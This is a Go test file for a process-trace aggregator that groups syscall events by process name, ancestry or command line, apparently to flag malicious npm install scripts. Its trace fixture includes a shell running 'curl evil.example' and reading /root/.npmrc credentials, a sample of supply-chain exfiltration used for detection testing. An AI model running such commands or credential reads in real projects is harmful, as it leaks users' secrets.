@@ -0,0 +1,95 @@
+package aggregate
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// Two unrelated "sh" processes: one spawned by npm, one by an install script
+const traceWithShells = `{"processId":1,"parentProcessId":0,"processName":"npm","eventName":"openat","args":[{"name":"pathname","value":"/app/package.json"}]}
+{"processId":2,"parentProcessId":1,"processName":"node","eventName":"openat","args":[{"name":"pathname","value":"/app/index.js"}]}
+{"processId":3,"parentProcessId":1,"processName":"sh","eventName":"execve","args":[{"name":"pathname","value":"/bin/sh"},{"name":"argv","value":["sh","-c","node-gyp rebuild"]}]}
+{"processId":4,"parentProcessId":2,"processName":"sh","eventName":"execve","args":[{"name":"pathname","value":"/bin/sh"},{"name":"argv","value":["sh","-c","curl evil.example"]}]}
+{"processId":4,"parentProcessId":2,"processName":"sh","eventName":"openat","args":[{"name":"pathname","value":"/root/.npmrc"}]}
+`
+
+func aggregateTrace(t *testing.T, mode KeyMode) *PerProcessStats {
+	t.Helper()
+	pa := NewProcessAggregator()
+	pa.SetKeyMode(mode)
+	stats, err := pa.ProcessReader(strings.NewReader(traceWithShells), "test")
+	require.NoError(t, err)
+	return stats
+}
+
+func TestProcessKeyModes(t *testing.T) {
+	byName := aggregateTrace(t, KeyName)
+	assert.ElementsMatch(t, []string{"npm", "node", "sh"}, keys(byName.PerProcess))
+	assert.Equal(t, 2, byName.PerProcess["sh"].ExecutedCommands["/bin/sh"], "same-named shells merged")
+
+	byAncestry := aggregateTrace(t, KeyAncestry)
+	assert.Equal(t, KeyAncestry, byAncestry.KeyMode)
+	assert.ElementsMatch(t, []string{"npm", "npm>node", "npm>sh", "npm>node>sh"}, keys(byAncestry.PerProcess))
+	assert.Contains(t, byAncestry.PerProcess["npm>node>sh"].FileAccess, "/root/.npmrc")
+	assert.NotContains(t, byAncestry.PerProcess["npm>sh"].FileAccess, "/root/.npmrc")
+
+	byCmdline := aggregateTrace(t, KeyCmdline)
+	var shells []string
+	for key := range byCmdline.PerProcess {
+		if ProcessNameFromKey(key) == "sh" {
+			shells = append(shells, key)
+		}
+	}
+	assert.Len(t, shells, 2, "shells with different command lines kept apart")
+}
+
+func TestParseKeyMode(t *testing.T) {
+	mode, err := ParseKeyMode("")
+	require.NoError(t, err)
+	assert.Equal(t, KeyName, mode)
+
+	_, err = ParseKeyMode("pid")
+	assert.Error(t, err)
+
+	assert.Equal(t, "sh", ProcessNameFromKey("npm>node>sh"))
+	assert.Equal(t, "node", ProcessNameFromKey("node#1a2b3c4d"))
+}
+
+func TestDedupAcrossKeyModes(t *testing.T) {
+	target := aggregateTrace(t, KeyAncestry)
+
+	// Legacy name-keyed baseline: matched by bare process name
+	legacy := &PerProcessStats{
+		Collection: "safe",
+		PerProcess: map[string]*ProcessSummary{
+			"sh": {SyscallProfile: map[string]int{"execve": 1}, ExecutedCommands: map[string]int{"/bin/sh": 1}, FileAccess: map[string]int{}},
+		},
+	}
+	deduped := Dedup(target, legacy)
+	assert.Equal(t, KeyAncestry, deduped.KeyMode)
+	assert.NotContains(t, deduped.PerProcess, "npm>sh", "fully covered by the baseline shell")
+	assert.Contains(t, deduped.PerProcess["npm>node>sh"].FileAccess, "/root/.npmrc")
+
+	// Ancestry-keyed baseline: only the exact ancestry matches
+	baseline := &PerProcessStats{
+		Collection: "safe",
+		KeyMode:    KeyAncestry,
+		PerProcess: map[string]*ProcessSummary{
+			"npm>sh": {SyscallProfile: map[string]int{"execve": 1}, ExecutedCommands: map[string]int{"/bin/sh": 1}, FileAccess: map[string]int{}},
+		},
+	}
+	deduped = Dedup(target, baseline)
+	assert.NotContains(t, deduped.PerProcess, "npm>sh")
+	assert.Contains(t, deduped.PerProcess["npm>node>sh"].ExecutedCommands, "/bin/sh", "install-script shell not masked")
+}
+
+func keys(m map[string]*ProcessSummary) []string {
+	var out []string
+	for k := range m {
+		out = append(out, k)
+	}
+	return out
+}